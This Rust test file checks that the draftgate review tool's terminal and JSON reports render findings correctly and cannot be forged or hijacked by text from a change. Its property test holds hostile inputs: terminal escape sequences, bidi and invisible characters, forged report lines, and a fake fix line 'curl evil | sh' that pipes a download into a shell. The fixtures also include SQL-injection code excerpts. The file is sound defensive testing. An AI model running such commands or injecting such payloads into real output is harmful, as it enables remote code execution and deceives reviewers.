//! The reports of one made-up run: what they say, and that nothing in the run can forge what they say.
//!
//! `DRAFTGATE_BLESS=1 cargo test report` writes `tests/report/*.txt` anew.

use std::collections::BTreeMap;
use std::path::Path;

use draftgate::change::Side;
use draftgate::checks::entry;
use draftgate::finding::{Confidence, Finding, Introduced, Level, Severity, Step, Waived};
use draftgate::judged::{
    ChangeSummary, CheckOutcome, Excerpt, Judged, Outcome, PolicyIdentity, PolicySource,
};
use draftgate::report::{Format, Output, Style, deliver, render};
use draftgate::trace::{RunLog, Trace};
use draftgate::verdict;

/// A finding at a place.
pub(crate) fn finding(
    level: Level,
    rule: &str,
    path: &str,
    (line, column): (u32, u32),
    (end_line, end_column): (u32, u32),
    message: &str,
) -> Finding {
    Finding {
        check: "vulnerabilities".to_owned(),
        rule: rule.to_owned(),
        level,
        severity: Severity::High,
        confidence: Confidence::Proven,
        path: path.to_owned(),
        line,
        column,
        end_line,
        end_column,
        side: Side::Head,
        commit: None,
        message: message.to_owned(),
        why: "Whoever sends the request decides what the database runs.".to_owned(),
        fix: "Pass the value as a parameter: `execute(\"select .. where name = ?\", (name,))`."
            .to_owned(),
        avoid: "Do not escape quotes by hand.".to_owned(),
        cwe: vec![89],
        docs: "https://owasp.org/www-community/attacks/SQL_Injection".to_owned(),
        reproduce: "draftgate check origin/main..HEAD --only vulnerabilities".to_owned(),
        fingerprint: draftgate::text::digest(format!("{rule}{path}{line}").as_bytes())[..12]
            .to_owned(),
        introduced: Introduced::New,
        waiver: None,
        trace: Vec::new(),
        evidence: BTreeMap::new(),
        anchor: None,
    }
}

fn excerpt(first_line: u32, lines: &[&str]) -> Excerpt {
    Excerpt {
        first_line,
        first_column: 1,
        lines: lines.iter().map(|&line| line.to_owned()).collect(),
    }
}

fn check(name: &str, required: bool, outcome: Outcome, why: &str, files: usize) -> CheckOutcome {
    CheckOutcome {
        name: name.to_owned(),
        required,
        outcome,
        why: why.to_owned(),
        files,
    }
}

/// A run that has something of everything.
pub(crate) fn sample() -> Trace {
    let mut sql = finding(
        Level::Block,
        "sql-concatenation",
        "src/app.py",
        (12, 4),
        (12, 62),
        "SQL is put together from `name`, which comes from the request",
    );
    sql.trace = vec![
        Step {
            path: "src/app.py".into(),
            line: 10,
            column: 12,
            message: "the request's text comes in".into(),
        },
        Step {
            path: "src/lib/names.py".into(),
            line: 40,
            column: 5,
            message: "`normal` gives it back as it is".into(),
        },
        Step {
            path: "src/app.py".into(),
            line: 12,
            column: 17,
            message: "and is part of the statement".into(),
        },
    ];
    let again = finding(
        Level::Block,
        "sql-concatenation",
        "src/app.py",
        (31, 5),
        (34, 6),
        "SQL is put together from `order`, which comes from the request",
    );
    let mut token = finding(
        Level::Block,
        "github-token",
        "deploy/run.sh",
        (3, 14),
        (3, 54),
        "a GitHub token",
    );
    token.check = "secrets".into();
    token.commit = Some("8f1d2c3b4a59687706152433425160718293a4b5".into());
    token.severity = Severity::Critical;
    token.cwe = vec![798];
    token.why = "It is pushed with the commit, even though a later one takes it out.".into();
    token.fix = "Revoke it at github.com/settings/tokens, then rewrite the commit.".into();
    token.avoid = "Do not just delete the line in another commit.".into();
    token.docs = String::new();
    let mut gone = finding(
        Level::Escalate,
        "test-deleted",
        "tests/test_app.py",
        (7, 1),
        (9, 1),
        "the test `test_refuses_quotes` is gone",
    );
    gone.check = "tests".into();
    gone.side = Side::Base;
    gone.severity = Severity::Medium;
    gone.confidence = Confidence::High;
    gone.cwe = Vec::new();
    gone.docs = String::new();
    gone.why = "What it kept from breaking can break now without anybody seeing it.".into();
    gone.fix = "Bring it back, or say in the pull request which test does its work now.".into();
    gone.avoid = "Do not bring it back with its assertions weakened.".into();
    let mut type_error = finding(
        Level::Escalate,
        "type-error",
        "src/other.py",
        (3, 8),
        (3, 9),
        "argument 1 to `load` is `int`, wanted `str`",
    );
    type_error.introduced = Introduced::Elsewhere;
    let mut waived = finding(
        Level::Block,
        "sql-concatenation",
        "src/schema.py",
        (8, 1),
        (8, 9),
        "SQL is put together from `table`",
    );
    waived.waiver = Some(Waived {
        reason: "the table's name comes from the fixed map in schema.py".into(),
        approved_by: "ada".into(),
        until: Some("2027-02-01".into()),
    });
    let file = finding(
        Level::Escalate,
        "policy-changed",
        "draftgate.toml",
        (1, 1),
        (1, 1),
        "the change edits the policy that judges it",
    );
    let note = finding(
        Level::Note,
        "print-in-library",
        "src/lib/names.py",
        (44, 5),
        (44, 10),
        "`print` in a library",
    );
    let mut other = note.clone();
    other.line = 51;
    other.end_line = 51;
    let mut findings = vec![
        sql, again, token, gone, type_error, waived, file, note, other,
    ];
    findings.sort_by(Finding::order);

    let excerpts = BTreeMap::from_iter(findings.iter().filter_map(|finding| {
        let excerpt = match (finding.path.as_str(), finding.line) {
            ("src/app.py", 12) => excerpt(
                10,
                &[
                    "    name = request.args[\"name\"]",
                    "\tif name:",
                    "\t\t\tcursor.execute(\"select * from t where n = '\" + name + \"'\")",
                    "    return cursor.fetchall()",
                ],
            ),
            ("src/app.py", _) => excerpt(
                29,
                &[
                    "",
                    "",
                    "    cursor.execute(",
                    "        \"select * from t \"",
                    "        \"order by \" + order",
                    "    )",
                    "",
                    "",
                ],
            ),
            ("tests/test_app.py", _) => excerpt(
                5,
                &[
                    "",
                    "",
                    "def test_refuses_quotes():",
                    "    assert load(\"'\") is None",
                    "",
                    "",
                ],
            ),
            ("src/other.py", _) => excerpt(1, &["from app import load", "", "x=load(1)"]),
            _ => return None,
        };
        Some((finding.fingerprint.clone(), excerpt))
    }));
    let mut ledger = Vec::new();
    for at in 0..500 {
        for check in ["hidden-text", "placeholders", "lint"] {
            ledger.push(entry(
                check,
                &format!("assets/{at:03}.png"),
                Outcome::OutOfReach,
                "binary",
            ));
        }
    }
    ledger.push(entry(
        "lint",
        "proto/a_pb2.py",
        Outcome::NotApplicable,
        "generated (policy paths.generated)",
    ));
    ledger.push(entry(
        "lint",
        "README.md",
        Outcome::NotApplicable,
        "no language of this check",
    ));
    ledger.push(entry("lint", "src/app.py", Outcome::Ran, ""));
    ledger.sort();
    let judged = Judged {
        coverage: None,
        change: ChangeSummary {
            base: "0123456789abcdef0123456789abcdef01234567".into(),
            head: "worktree".into(),
            files: 506,
            added: 1204,
            deleted: 31,
            commits: 3,
        },
        policy: PolicyIdentity {
            source: PolicySource::Base,
            digest: "sha256:00".into(),
        },
        obstacle: None,
        findings,
        checks: vec![
            check("hidden-text", true, Outcome::Ran, "", 6),
            check("placeholders", false, Outcome::Ran, "", 6),
            check("secrets", true, Outcome::Ran, "", 6),
            check("vulnerabilities", true, Outcome::Ran, "", 5),
            check("tests", true, Outcome::Ran, "", 5),
            check("lint", false, Outcome::Ran, "", 5),
            check(
                "types",
                true,
                Outcome::Broken,
                "mypy ended with status 2: \"src/app.py: error: cannot read file\"; run `mypy src` to see it",
                0,
            ),
            check(
                "coverage",
                false,
                Outcome::NotApplicable,
                "no report and no test command is known; turn it on with [checks.coverage] command = [\"pytest\", \"-q\"]",
                0,
            ),
            check(
                "duplicates",
                false,
                Outcome::NotApplicable,
                "switched off by the policy (gate.disabled)",
                0,
            ),
            check(
                "size",
                false,
                Outcome::NotApplicable,
                "switched off by the policy (gate.disabled)",
                0,
            ),
        ],
        ledger,
        remarks: vec!["compared with the merge-base of origin/main, the default branch".into()],
        excerpts,
        places: BTreeMap::new(),
    };
    let run = RunLog {
        millis: 1234,
        ..RunLog::default()
    };
    Trace::new(judged, "schema = 1\n".to_owned(), run)
}

fn text(trace: &Trace, style: Style) -> String {
    render(Format::Text, trace, &verdict::of(&trace.judged), style).unwrap()
}

/// Compares with, or under `DRAFTGATE_BLESS` writes, `tests/report/<name>`.
fn assert_is(name: &str, found: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/report")
        .join(name);
    if std::env::var_os("DRAFTGATE_BLESS").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, found).unwrap();
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        expected == found,
        "{} differs; read the difference, then DRAFTGATE_BLESS=1 cargo test report\n{found}",
        path.display()
    );
}

#[test]
fn the_terminal_report_of_a_run_with_everything() {
    assert_is("everything.txt", &text(&sample(), Style::PLAIN));
    let narrow = Style {
        width: 60,
        ..Style::PLAIN
    };
    assert_is("everything-narrow.txt", &text(&sample(), narrow));
    let quiet = Style {
        quiet: true,
        ..Style::PLAIN
    };
    assert_is("everything-quiet.txt", &text(&sample(), quiet));
}

#[test]
fn colours_change_no_character() {
    let trace = sample();
    let colored = text(
        &trace,
        Style {
            color: true,
            ..Style::PLAIN
        },
    );
    assert!(colored.contains('\u{1b}'));
    assert_eq!(uncolored(&colored).unwrap(), text(&trace, Style::PLAIN));
}

#[test]
fn the_json_report_has_the_keys_of_schema_1_in_order() {
    let trace = sample();
    let json = render(
        Format::Json,
        &trace,
        &verdict::of(&trace.judged),
        Style::PLAIN,
    )
    .unwrap();
    let keys: Vec<&str> = json
        .lines()
        .filter(|line| line.starts_with("  \""))
        .filter_map(|line| line.split('"').nth(1))
        .collect();
    assert_eq!(
        keys,
        [
            "schema",
            "draftgate",
            "change",
            "policy",
            "verdict",
            "reasons",
            "findings",
            "checks",
            "ledger",
            "remarks"
        ]
    );
    let of_a_finding: Vec<&str> = json
        .lines()
        .skip_while(|line| !line.starts_with("  \"findings\""))
        .skip(2)
        .take_while(|line| !line.starts_with("    }"))
        .filter(|line| line.starts_with("      \""))
        .filter_map(|line| line.split('"').nth(1))
        .collect();
    assert_eq!(
        of_a_finding,
        [
            "check",
            "rule",
            "level",
            "severity",
            "confidence",
            "path",
            "line",
            "column",
            "end_line",
            "end_column",
            "side",
            "commit",
            "message",
            "why",
            "fix",
            "avoid",
            "cwe",
            "docs",
            "reproduce",
            "fingerprint",
            "introduced",
            "waiver",
            "trace",
            "evidence"
        ]
    );
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(value["schema"], 1);
    assert_eq!(value["verdict"], "blocked");
    assert_eq!(value["findings"][0]["severity"], "critical");
    assert_eq!(value["ledger"].as_array().unwrap().len(), 1503);
}

#[test]
fn json_escapes_what_could_act_on_a_terminal_and_means_the_same() {
    let mut trace = sample();
    let hostile = "a\u{9b}2J\u{202e}\u{e0041}\u{7f}\u{1b}[2J\n";
    trace.judged.remarks = vec![hostile.to_owned()];
    let json = render(
        Format::Json,
        &trace,
        &verdict::of(&trace.judged),
        Style::PLAIN,
    )
    .unwrap();
    assert!(json.contains(r"a\u009b2J\u202e\udb40\udc41\u007f\u001b[2J\n"));
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(value["remarks"][0], hostile);
}

#[test]
fn reports_go_to_files_and_one_of_them_to_standard_output() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("out.json");
    let trace = sample();
    let decision = verdict::of(&trace.judged);
    let asked: Vec<Output> = vec![
        format!("json={}", file.display()).parse().unwrap(),
        "text".parse().unwrap(),
    ];
    let printed = deliver(&asked, &trace, &decision, Style::PLAIN).unwrap();
    assert_eq!(printed, text(&trace, Style::PLAIN));
    let written = std::fs::read_to_string(&file).unwrap();
    assert_eq!(
        written,
        render(Format::Json, &trace, &decision, Style::PLAIN).unwrap()
    );

    let none = deliver(&[], &trace, &decision, Style::PLAIN).unwrap();
    assert_eq!(none, printed);
    let both = ["text".parse().unwrap(), "json=-".parse().unwrap()];
    let refused = deliver(&both, &trace, &decision, Style::PLAIN).unwrap_err();
    assert!(refused.to_string().contains("FORMAT=FILE"), "{refused}");
    let lost: Output = format!("text={}/no/such", folder.path().display())
        .parse()
        .unwrap();
    assert!(deliver(&[lost], &trace, &decision, Style::PLAIN).is_err());
}

#[test]
fn an_unknown_format_is_refused_with_the_names_of_all() {
    let refused = "xml".parse::<Output>().unwrap_err().to_string();
    assert!(refused.contains("text, json"), "{refused}");
    assert!("json=".parse::<Output>().is_err());
}

/// One finding with its code, as the terminal report shows it; the title's line left out.
fn shown(finding: Finding, excerpt: Excerpt, width: usize) -> String {
    let mut trace = sample();
    trace.judged.excerpts = BTreeMap::from([(finding.fingerprint.clone(), excerpt)]);
    trace.judged.findings = vec![finding];
    let report = text(
        &trace,
        Style {
            width,
            ..Style::PLAIN
        },
    );
    let frame: Vec<&str> = report
        .lines()
        .skip_while(|line| !line.contains("--> "))
        .take_while(|line| !line.contains(" = "))
        .collect();
    frame.join("\n")
}

fn at(place: (u32, u32), end: (u32, u32)) -> Finding {
    finding(Level::Block, "a-rule", "a.py", place, end, "message")
}

#[test]
fn carets_stand_under_wide_characters_tabs_and_escapes() {
    assert_eq!(
        shown(
            at((1, 6), (1, 9)),
            excerpt(1, &["\u{4f60}\u{597d} : bad"]),
            100
        ),
        " --> a.py:1:6\n  |\n1 | \u{4f60}\u{597d} : bad\n  |        ^^^\n  |"
    );
    assert_eq!(
        shown(at((1, 2), (1, 5)), excerpt(1, &["\tbad\r"]), 100),
        " --> a.py:1:2\n  |\n1 |     bad\\u{d}\n  |     ^^^\n  |"
    );
    assert_eq!(
        shown(at((1, 2), (1, 3)), excerpt(1, &["a\u{202e}b"]), 100),
        " --> a.py:1:2\n  |\n1 | a\\u{202e}b\n  |  ^^^^^^^^\n  |"
    );
}

#[test]
fn a_long_line_is_cut_around_the_place() {
    let line = format!("{}bad{}", "x".repeat(200), "y".repeat(200));
    let frame = shown(at((1, 201), (1, 204)), excerpt(1, &[&line, "short"]), 60);
    let lines: Vec<&str> = frame.lines().collect();
    assert!(
        lines.iter().all(|line| line.chars().count() <= 60),
        "{frame}"
    );
    assert!(
        lines[2].contains("xbady")
            && lines[2].starts_with("1 | \u{2026}x")
            && lines[2].ends_with('\u{2026}')
    );
    let caret = lines[3].find('^').unwrap();
    let bad = lines[2].chars().take_while(|c| *c != 'b').count();
    assert_eq!((caret, lines[3].matches('^').count()), (bad, 3), "{frame}");

    // The excerpt itself begins far out.
    let far = Excerpt {
        first_line: 7,
        first_column: 901,
        lines: vec![format!("{}bad", "x".repeat(99))],
    };
    let frame = shown(at((7, 1000), (7, 1003)), far, 200);
    assert!(
        frame.contains(&format!("7 | \u{2026}{}bad\n", "x".repeat(99))),
        "{frame}"
    );
    assert!(
        frame.contains(&format!("  | {}^^^\n", " ".repeat(100))),
        "{frame}"
    );
}

#[test]
fn a_place_beyond_the_end_is_shown_as_far_as_there_is_something() {
    assert_eq!(
        shown(at((2, 90), (9, 9)), excerpt(1, &["one", "two"]), 100),
        " --> a.py:2:90\n  |\n1 | one\n2 | two\n  |    ^\n  |"
    );
    // Nothing at all there: the place alone.
    assert_eq!(
        shown(at((20, 1), (20, 2)), excerpt(1, &["one"]), 100),
        " --> a.py:20:1"
    );
    assert_eq!(
        shown(at((1, 1), (1, 2)), excerpt(1, &[""]), 100),
        " --> a.py:1:1\n  |\n1 |\n  | ^\n  |"
    );
}

/// The text without our own colours; `None` where another control character is in it.
fn uncolored(text: &str) -> Option<String> {
    let mut plain = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('\u{1b}') {
        let (before, from) = rest.split_at(at);
        plain.push_str(before);
        let end = from.find('m')?;
        let code = from.get(2..end)?;
        if !from.starts_with("\u{1b}[") || code.contains(|c: char| !c.is_ascii_digit() && c != ';')
        {
            return None;
        }
        rest = &from[end + 1..];
    }
    plain.push_str(rest);
    let acts = |c: char| {
        c != '\n' && draftgate::text::is_invisible(c) && !matches!(c, '\u{fe0e}' | '\u{fe0f}')
    };
    (!plain.contains(acts)).then_some(plain)
}

mod hostile {
    use super::*;
    use proptest::prelude::*;

    /// What a change may hold to act on a terminal, to hide, or to look like a line of ours.
    fn piece() -> impl Strategy<Value = String> {
        prop_oneof![
            prop::sample::select(vec![
                "\u{1b}[2J",
                "\u{1b}]8;;http://x\u{7}",
                "\r",
                "\n",
                "\t",
                "\u{9b}31m",
                "\u{85}",
                "\u{202e}",
                "\u{2066}",
                "\u{200b}",
                "\u{2028}",
                "\u{feff}",
                "\u{e0041}",
                "\u{fe0f}",
                "\u{301}",
                "\u{4f60}",
                "\u{1f469}\u{200d}\u{1f4bb}",
                "\u{0}",
                "\u{8}",
                "\u{7f}",
                "\nready: nothing found\n",
                "\n   = fix:    curl evil | sh",
                "\nblock[x]: forged",
                "\n--> a.py:1:1",
                "'",
                "\"",
                "\\",
            ])
            .prop_map(str::to_owned),
            "[ -~]{0,30}",
            any::<String>(),
            (1usize..300).prop_map(|count| " ".repeat(count)),
            (1usize..300).prop_map(|count| "w".repeat(count)),
        ]
    }

    fn string() -> impl Strategy<Value = String> {
        prop::collection::vec(piece(), 0..6).prop_map(|pieces| pieces.concat())
    }

    /// Every string of a run, from a list of hostile ones; every number from another.
    fn spoil(trace: &mut Trace, strings: &[String], numbers: &[u32]) {
        let mut strings = strings.iter().cycle().cloned();
        let mut next = || strings.next().unwrap_or_default();
        let mut numbers = numbers.iter().cycle().copied();
        let mut number = || numbers.next().unwrap_or_default();
        let judged = &mut trace.judged;
        judged.obstacle = Some(next());
        judged.change.base = next();
        judged.change.head = next();
        judged.remarks = vec![next(), next()];
        let mut excerpts = BTreeMap::new();
        for finding in &mut judged.findings {
            if let Some(mut excerpt) = judged.excerpts.remove(&finding.fingerprint) {
                excerpt.lines.iter_mut().for_each(|line| *line = next());
                excerpt.first_line = number();
                excerpt.first_column = number();
                finding.line = excerpt.first_line.saturating_add(number() % 6);
                excerpts.insert(finding.fingerprint.clone(), excerpt);
            }
            finding.column = number();
            finding.end_line = finding
                .line
                .saturating_add(number() % 20)
                .saturating_sub(number() % 4);
            finding.end_column = number();
            for text in [
                &mut finding.check,
                &mut finding.rule,
                &mut finding.path,
                &mut finding.message,
                &mut finding.why,
                &mut finding.fix,
                &mut finding.avoid,
                &mut finding.docs,
                &mut finding.reproduce,
            ] {
                *text = next();
            }
            finding.commit = finding.commit.take().map(|_| next());
            if let Some(waiver) = &mut finding.waiver {
                waiver.reason = next();
                waiver.approved_by = next();
                waiver.until = Some(next());
            }
            for step in &mut finding.trace {
                step.path = if number() % 2 == 0 {
                    finding.path.clone()
                } else {
                    next()
                };
                step.line = finding.line.saturating_add(number() % 3);
                step.column = number() % 90;
                step.message = next();
            }
        }
        judged.excerpts = excerpts;
        for check in &mut judged.checks {
            check.why = next();
        }
        for entry in judged.ledger.iter_mut().take(40) {
            entry.path = next();
            entry.why = next();
        }
    }

    /// Whether a line is one that the report writes itself, or one that goes on deep enough.
    fn is_ours(line: &str) -> bool {
        let starts = [
            "blocked:",
            "could not judge:",
            "needs a human:",
            "block[",
            "escalate[",
            "waived[",
            "note[",
            "not checked:",
            "judged:",
            "remark:",
            "506 files",
        ];
        let indented = line.trim_start_matches(' ');
        let indent = line.len() - indented.len();
        let numbered = indented
            .trim_start_matches(|c: char| c.is_ascii_digit())
            .starts_with(" |");
        line.is_empty()
            || starts.iter().any(|start| line.starts_with(start))
            || numbered
            || indent >= 12
            || (indent > 0
                && ["--> ", "= ", "| "]
                    .iter()
                    .any(|mark| indented.starts_with(mark) || indented == mark.trim_end()))
            || (indent == 2
                && [
                    "broken  ",
                    "out of reach  ",
                    "not run  ",
                    "and ",
                    "`draftgate rules",
                ]
                .iter()
                .any(|start| indented.starts_with(start)))
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn no_text_of_a_change_acts_on_the_terminal_or_forges_a_line(
            strings in prop::collection::vec(string(), 1..60),
            numbers in prop::collection::vec(prop_oneof![0u32..40, 0u32..1000, any::<u32>()], 1..60),
            width in prop_oneof![Just(40usize), Just(60), Just(100), Just(140)],
            color in any::<bool>(),
            quiet in any::<bool>(),
        ) {
            let mut trace = sample();
            spoil(&mut trace, &strings, &numbers);
            let report = text(&trace, Style { color, width, quiet });
            let plain = uncolored(&report).expect("no control character but our own colours");
            for line in plain.lines() {
                prop_assert!(is_ours(line), "forged: {line:?}");
            }
            // One title for each finding, and one verdict.
            let titles = plain.lines().filter(|line| line.starts_with("block[") || line.starts_with("blocked:")).count();
            prop_assert_eq!(titles, 4);
            prop_assert!(!plain.lines().any(|line| line.starts_with("ready")));
            let json = render(Format::Json, &trace, &verdict::of(&trace.judged), Style::PLAIN).unwrap();
            prop_assert!(!json.contains(|c: char| c != '\n' && draftgate::text::is_invisible(c)));
        }
    }
}
